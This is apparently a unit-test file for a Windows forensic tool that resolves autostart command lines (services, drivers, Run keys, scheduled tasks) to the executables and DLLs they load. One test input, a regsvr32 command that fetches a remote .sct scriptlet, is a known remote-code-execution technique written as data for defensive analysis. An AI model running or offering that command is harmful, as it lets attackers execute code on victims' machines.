// SPDX-License-Identifier: Apache-2.0
#include "core/registry/autostart_targets.h"

#include <gtest/gtest.h>

namespace trawl::core::hive {
namespace {

using Paths = std::vector<std::string>;

std::vector<Paths> Candidates(std::string_view command, std::string_view args = "", std::string_view home = "",
                              std::string_view root = "C:\\Windows") {
  std::vector<Paths> out;
  for (const AutostartTarget& t : CommandTargets(command, args, home, root)) out.push_back(t.candidates);
  return out;
}

TEST(AutostartTargets, ServicesDriversAndQuotedPrograms) {
  EXPECT_EQ(Candidates("system32\\drivers\\ACPI.sys"),
            std::vector<Paths>{{"c:\\windows\\system32\\drivers\\acpi.sys"}});
  EXPECT_EQ(Candidates("\\SystemRoot\\System32\\drivers\\x.sys"),
            std::vector<Paths>{{"c:\\windows\\system32\\drivers\\x.sys"}});
  EXPECT_EQ(Candidates("%SystemRoot%\\system32\\svchost.exe -k netsvcs"),
            std::vector<Paths>{{"c:\\windows\\system32\\svchost.exe"}});
  EXPECT_EQ(Candidates("\"C:\\Program Files\\Vendor App\\svc.exe\" --run"),
            std::vector<Paths>{{"c:\\program files\\vendor app\\svc.exe"}});
  EXPECT_EQ(Candidates("C:\\Program Files\\Vendor App\\svc.exe --run"),
            std::vector<Paths>{{"c:\\program files\\vendor app\\svc.exe"}});
  EXPECT_EQ(Candidates("\\??\\C:\\ProgramData\\d.sys"), std::vector<Paths>{{"c:\\programdata\\d.sys"}});
  // Another Windows folder (an old install, or a system on D:).
  EXPECT_EQ(Candidates("%SystemRoot%\\system32\\svchost.exe", "", "", "D:\\WINNT"),
            std::vector<Paths>{{"d:\\winnt\\system32\\svchost.exe"}});
}

TEST(AutostartTargets, BareNamesAreSearchedWhereTheLoaderLooks) {
  EXPECT_EQ(Candidates("explorer.exe"),
            (std::vector<Paths>{{"c:\\windows\\system32\\explorer.exe", "c:\\windows\\explorer.exe"}}));
  EXPECT_EQ(Candidates("cmd"), (std::vector<Paths>{{"c:\\windows\\system32\\cmd.exe", "c:\\windows\\cmd.exe"}}));
}

TEST(AutostartTargets, LoadersBringTheirDll) {
  EXPECT_EQ(Candidates("rundll32.exe \"C:\\Users\\Public\\x.dll\",Start"),
            (std::vector<Paths>{{"c:\\windows\\system32\\rundll32.exe", "c:\\windows\\rundll32.exe"},
                                {"c:\\users\\public\\x.dll"}}));
  EXPECT_EQ(Candidates("C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\a.dll,#1"),
            (std::vector<Paths>{{"c:\\windows\\system32\\rundll32.exe"}, {"c:\\programdata\\a.dll"}}));
  EXPECT_EQ(Candidates("regsvr32 /s /i:http://x/y.sct scrobj"),
            (std::vector<Paths>{{"c:\\windows\\system32\\regsvr32.exe", "c:\\windows\\regsvr32.exe"},
                                {"c:\\windows\\system32\\scrobj.dll", "c:\\windows\\scrobj.dll"}}));
  // A task: the command apart from its arguments.
  EXPECT_EQ(Candidates("\"%windir%\\system32\\rundll32.exe\"", "%ProgramData%\\p.dll,Run"),
            (std::vector<Paths>{{"c:\\windows\\system32\\rundll32.exe"}, {"c:\\programdata\\p.dll"}}));
}

TEST(AutostartTargets, UserVariablesNeedTheirUser) {
  EXPECT_EQ(Candidates("%APPDATA%\\Upd\\u.exe", "", "C:\\Users\\Alice"),
            std::vector<Paths>{{"c:\\users\\alice\\appdata\\roaming\\upd\\u.exe"}});
  EXPECT_EQ(Candidates("\"%LOCALAPPDATA%\\Microsoft\\OneDrive\\OneDrive.exe\" /background", "", "C:\\Users\\bob"),
            std::vector<Paths>{{"c:\\users\\bob\\appdata\\local\\microsoft\\onedrive\\onedrive.exe"}});
  const auto machine = CommandTargets("%APPDATA%\\u.exe", "", "", "C:\\Windows");
  ASSERT_EQ(machine.size(), 1u);
  EXPECT_TRUE(machine[0].candidates.empty());
  EXPECT_NE(machine[0].unresolved.find("variable"), std::string::npos);
}

TEST(AutostartTargets, WhatCannotBeMadeAbsoluteIsSaidSo) {
  for (const char* bad : {"..\\x.exe", "sub\\x.exe", "\\\\server\\share\\x.exe", "C:\\a\\..\\b.exe"}) {
    const auto t = CommandTargets(bad, "", "", "C:\\Windows");
    ASSERT_EQ(t.size(), 1u) << bad;
    EXPECT_TRUE(t[0].candidates.empty()) << bad;
    EXPECT_FALSE(t[0].unresolved.empty()) << bad;
  }
  EXPECT_TRUE(CommandTargets("", "", "", "C:\\Windows").empty());
  EXPECT_TRUE(CommandTargets("   ", "", "", "C:\\Windows").empty());
}

}  // namespace
}  // namespace trawl::core::hive
